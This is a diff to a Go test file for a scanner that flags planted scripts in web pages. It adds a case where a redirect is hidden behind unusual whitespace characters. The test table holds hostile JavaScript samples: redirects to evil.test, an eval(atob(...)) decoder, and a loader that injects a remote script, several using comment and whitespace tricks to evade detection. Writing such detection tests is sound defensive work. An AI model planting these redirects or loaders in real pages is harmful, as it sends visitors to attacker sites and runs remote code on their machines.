@@ -57,6 +57,7 @@ func TestPlantedScripts(t *testing.T) {
 		{"top", `top.location.href = "http:\/\/evil.test\/"`, reasonLeadsAway},
 		{"variable", `var u="https://evil.test/x"; setTimeout(function(){ window.location.href = u; }, 100);`, reasonLeadsAway},
 		{"comment", `window.location/* x */="https://evil.test/";`, reasonLeadsAway},
+		{"spaces of other kinds", "location\v\u00A0=\u2028'https://evil.test/'", reasonLeadsAway},
 		{"line comment", "location // x\n = 'https://evil.test/';", reasonLeadsAway},
 		{"comment in a call", `eval(/**/atob("YWxlcnQoMSk="))`, reasonDecoder},
 		{"comment in a loader", `var s=document.createElement/**/(/**/"script");s.src="https://evil.test/a.js";document.head.append(s)`, reasonLoadsScript},
